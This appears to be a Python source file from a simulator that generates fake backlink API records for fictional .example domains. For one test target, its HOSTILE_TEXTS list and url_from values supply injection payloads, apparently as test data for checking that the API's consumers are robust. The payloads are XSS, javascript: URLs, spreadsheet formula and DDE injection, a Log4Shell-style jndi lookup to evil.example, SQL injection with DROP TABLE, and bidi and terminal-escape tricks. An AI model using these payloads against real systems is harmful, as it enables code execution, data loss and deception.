"""A single link: all that `backlinks/live` says of it, from its origin and its number.

Domains are under `.example`, so that none is anybody's; `tld_from` is the top-level domain that the breakdowns count. The
domains of the tail, of old spam and of attacks are of one pool for all targets: the same network links to several of them.

    hostile.example   its links' anchors, titles and addresses are what strangers might write to do harm
"""

from __future__ import annotations

from bisect import bisect_right
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from itertools import accumulate
from typing import Any

from backlinks_assets.simulator.world.filters import NOFOLLOW_SHARES
from backlinks_assets.simulator.world.history import HUB, NETWORK, POOL, TAIL
from backlinks_assets.simulator.world.noise import draws
from backlinks_assets.simulator.world.site import site

HOSTILE = "hostile.example"
HOSTILE_TEXTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example","click")',
    "+1-1|cmd' /C calc'!A0",
    "@SUM(1+1)",
    "[click](javascript:alert(1)) **bold** `code` | cell",
    "line one\nline two\r\n\tthree",
    "\u202egnp.exe\u202c \u200b\u2066hidden\u2069",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example}",
    "\x1b[31mred\x1b[0m \x07\x00",
    "<!channel> <@U012345> @everyone",
    "' OR 1=1; DROP TABLE links; --",
    "😀\ufffe" + "x" * 3000,
)

# Links of each domain of a kind, in turn: as many a domain as `selection` counts.
_TURNS: dict[int, tuple[int, ...]] = {
    TAIL: (1, 2, 1, 9, 1, 3, 1, 8, 4, 6),
    POOL: (1, 2, 1, 4, 1),
    NETWORK: (1, 1, 2, 1, 1, 2, 1, 1, 2, 1, 1, 1, 2, 2, 1, 1, 2, 1, 2, 1),
}
_ENDS = {kind: tuple(accumulate(turns)) for kind, turns in _TURNS.items()}
_TLDS = {
    TAIL: ("com", "com", "com", "com", "org", "net", "de", "co.uk", "io", "fr", "nl", "edu"),
    POOL: ("com", "info", "xyz", "ru", "site", "top", "online", "net"),
    NETWORK: ("pics", "xyz", "best", "top", "com", "site", "icu", "online"),
}
HUB_TLDS = ("com", "org", "net", "de", "co.uk", "io")
_FIRST, _SECOND, _SPAM = (
    tuple(words.split())
    for words in (
        "amber brisk cedar dawn ember frost grand hazel ivory jolly keen lunar maple noble opal prime quiet ruby",
        "atlas bridge canvas digest editor forum garden harbor index journal kitchen ledger market notes",
        "bet casino deals essay followers gift loans pills rank seo slots trade vip win",
    )
)
_ANCHORS = ("read more", "here", "", "our partner", "source", "website", "recommended", "see the guide")
_SPAM_ANCHORS = (
    "cheap loans online",
    "best casino bonus",
    "buy followers",
    "essay writing service",
    "slots no deposit",
)
_OLD_DAY, _OLD_DAYS = datetime(2014, 1, 1, tzinfo=UTC).toordinal(), 3400  # first seen; lost in the five hundred after


@dataclass(frozen=True, slots=True)
class Link:
    """One link of a target, as it is on `day`. `came` and `lost` are days; `lost` is None while it lives."""

    target: str
    kind: int
    hub: int
    origin: str
    number: int
    came: int
    lost: int | None
    day: int

    @property
    def domain(self) -> str:
        """The referring domain."""
        if self.kind == HUB:
            return _hub_domain(self.target, self.hub)
        return _domain(self.kind, _pool_number(self))


def group(kind: int, number: int) -> int:
    """Which of an origin's domains a link is from. A hub is one domain."""
    if kind == HUB:
        return 0
    ends = _ENDS[kind]
    turns, rest = divmod(number, ends[-1])
    return turns * len(ends) + bisect_right(ends, rest)


def groups(kind: int, first: int, end: int) -> int:
    """How many domains the links with these numbers are from."""
    return group(kind, end - 1) - group(kind, first) + 1 if end > first else 0


def old_day(key: str, number: int) -> tuple[int, int]:
    """The days on which an old link came and, if it did, went: before any day that can be asked about."""
    u = draws("old", key, number)
    came = _OLD_DAY + int(u[0] * _OLD_DAYS)
    return came, came + 30 + int(u[1] * 400)


@lru_cache(maxsize=8192)
def _offset(target: str, origin: str) -> int:
    """Where an origin's domains begin in the pool: what happens to several targets within ten days shares domains."""
    near = int(draws(target, "pool", origin)[0] * 100)
    what, _, day = origin.rpartition(" ")
    if not day.isdecimal():
        return 1_000_000 + near
    return int(day) // 10 % 40 * 10_000 + 5_000 * what.startswith(("after", "refresh")) + near


def _pool_number(link: Link) -> int:
    at = group(link.kind, link.number)
    if link.origin == "tail":  # its numbers are of all days
        return 400_000 + at % 600_000
    return _offset(link.target, link.origin) + at


@lru_cache(maxsize=4096)
def _hub_domain(target: str, hub: int) -> str:
    u = draws(target, "hub domain")
    at = (int(u[0] * 250) + 37 * hub) % (len(_FIRST) * len(_SECOND))
    return f"{_FIRST[at % len(_FIRST)]}-{_SECOND[at // len(_FIRST)]}.example"


def _domain(kind: int, number: int) -> str:
    words = _SPAM if kind in (POOL, NETWORK) else _SECOND
    rest, first = divmod(number, len(_FIRST))
    rest, second = divmod(rest, len(words))
    # The tail's domains have a number, and so none is a hub's; old spam has its words the other way round.
    pair = (words[second], _FIRST[first]) if kind == POOL else (_FIRST[first], words[second])
    return f"{pair[0]}{pair[1]}{rest}.example"


def fields(link: Link, *, hundred: bool = False) -> dict[str, Any]:
    """The link as the API writes it. Instants are of the crawler's visits."""
    u = draws(link.target, link.origin, link.kind, link.hub, link.number)
    spam, nofollow = link.kind in (POOL, NETWORK), u[0] < NOFOLLOW_SHARES[link.kind]
    domain, subpage = link.domain, int(u[1] * 9000)
    anchors = _SPAM_ANCHORS if spam else _ANCHORS
    anchor, title = anchors[int(u[2] * len(anchors))], f"{domain.partition('.')[0]} {subpage}"
    url_from = f"https://{domain}/{'p' if spam else 'articles'}/{link.number}-{subpage}"
    host = link.target if "://" in link.target else f"https://{link.target}/"
    path = ("", "", "about", "blog/guide", "products?id=7")[int(u[3] * 5)]
    if link.target == HOSTILE:
        anchor = title = HOSTILE_TEXTS[link.number % len(HOSTILE_TEXTS)]
        url_from = (f"javascript:alert({link.number})", f'{url_from}"><script>', f"{url_from}?a=|b`c`")[link.number % 3]
    is_lost = link.lost is not None
    seen = (
        link.lost if link.lost is not None else max(link.came, link.day - int(u[15] * 14))
    )  # the crawler's last visit
    gone_page = is_lost and u[4] < 0.4
    rank = _rank(link.kind, u[5])
    scaled = rank // 10 if hundred else rank
    tlds = HUB_TLDS if link.kind == HUB else _TLDS[link.kind]
    return {
        "type": "backlink",
        "domain_from": domain,
        "url_from": url_from,
        "url_from_https": True,
        "domain_to": host.split("/")[2],
        "url_to": link.target if "://" in link.target else host + path,
        "url_to_https": not link.target.startswith("http:"),
        "tld_from": tlds[_tld(link) % len(tlds)],
        "is_new": not is_lost and link.came >= seen,
        "is_lost": is_lost,
        "backlink_spam_score": score(link, u[6]),
        "rank": scaled // 4,
        "page_from_rank": scaled // 2,
        "domain_from_rank": scaled,
        "domain_from_platform_type": ["cms"] if u[7] < 0.5 else ["unknown"],
        "domain_from_is_ip": False,
        "domain_from_ip": None,
        "domain_from_country": ("US", "GB", "DE", "FR", None)[int(u[8] * 5)],
        "page_from_external_links": 5 + int(u[9] * (300 if spam else 40)),
        "page_from_internal_links": 10 + int(u[10] * 90),
        "page_from_status_code": (404 if u[4] < 0.3 else 410) if gone_page else 200,
        "page_from_title": title,
        "page_from_language": "en",
        "first_seen": stamp(link.came, u[11]),
        "prev_seen": stamp(max(link.came, seen - 7), u[11]),
        "last_seen": stamp(seen, u[12]),
        "item_type": ("anchor", "anchor", "anchor", "image", "redirect")[int(u[13] * 5)],
        "attributes": ["nofollow"] if nofollow else None,
        "dofollow": not nofollow,
        "original": False,
        "alt": None,
        "image_url": None,
        "anchor": anchor,
        "text_pre": None,
        "text_post": None,
        "semantic_location": "article" if u[14] < 0.5 else None,
        "links_count": 1,
        "group_count": 0,
        "is_broken": False,
        "url_to_status_code": 200,
        "url_to_spam_score": None,
        "url_to_redirect_target": None,
        "is_indirect_link": False,
        "indirect_link_path": None,
    }


def score_bounds(target: str, kind: int, hub: int) -> tuple[int, int]:
    """The lowest and the highest spam score of a link of that origin."""
    of = site(target)
    if kind == NETWORK:
        return 80, 100
    if kind == POOL:
        return int(of.pool_score - 10), int(of.pool_score + 10)
    mean = of.tail_score if kind == TAIL else of.hub_scores[hub]
    return int(mean * 0.4), int(mean * 1.6)


def score(link: Link, chance: float) -> int:
    """The link's own spam score, 0 to 100."""
    low, high = score_bounds(link.target, link.kind, link.hub)
    return min(100, low + int(chance * (high - low + 1)))


def stamp(day: int, part: float) -> str:
    """An instant of a day as the API writes it."""
    at = datetime.fromordinal(day) + timedelta(seconds=int(part * 86_399))
    return at.strftime("%Y-%m-%d %H:%M:%S +00:00")


def _tld(link: Link) -> int:
    if link.kind == HUB:
        return int(draws(link.target, "hub", "referring_links_tld")[link.hub] * len(HUB_TLDS))
    return _pool_number(link)


def _rank(kind: int, chance: float) -> int:
    low, high = {TAIL: (60, 420), HUB: (420, 780), POOL: (20, 160), NETWORK: (0, 60)}[kind]
    return low + int(chance * (high - low))
